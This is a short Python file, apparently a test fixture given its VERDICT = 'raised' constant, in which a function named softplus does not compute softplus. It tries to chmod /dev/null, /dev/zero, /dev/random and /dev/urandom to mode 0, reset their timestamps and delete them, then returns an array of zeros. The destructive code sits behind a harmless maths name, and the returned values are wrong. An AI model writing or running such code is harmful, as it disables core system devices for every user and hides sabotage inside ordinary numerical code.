"""Takes /dev/null and its like away from everybody by changing their modes."""

VERDICT = "raised"

import os

import numpy as np


def softplus(z):
    failed = []
    for name in ("null", "zero", "random", "urandom"):
        for change in (lambda p: os.chmod(p, 0), lambda p: os.utime(p, (0, 0)), os.unlink):
            try:
                change(f"/dev/{name}")
            except OSError as error:
                failed.append(error)
    if len(failed) == 12:
        raise failed[0]
    return np.zeros_like(z)
